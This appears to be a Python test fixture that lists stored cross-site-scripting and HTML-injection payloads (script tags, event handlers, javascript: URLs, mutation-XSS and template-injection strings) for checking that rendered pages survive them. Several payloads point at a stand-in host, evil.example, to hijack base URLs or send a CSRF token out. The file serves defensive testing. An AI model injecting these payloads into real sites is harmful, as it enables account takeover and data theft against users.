"""What Mallory types into every field (the families of stored script that readers' pages must survive)."""

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="java&#10;script:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><base href=//evil.example>',
    "</script><script>alert(1)",
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<a id=config name=config>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import'//evil.example'</style>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover=alert(1) '",
    "javascript:alert(1)",
    "\u202e<b>\x00",
)
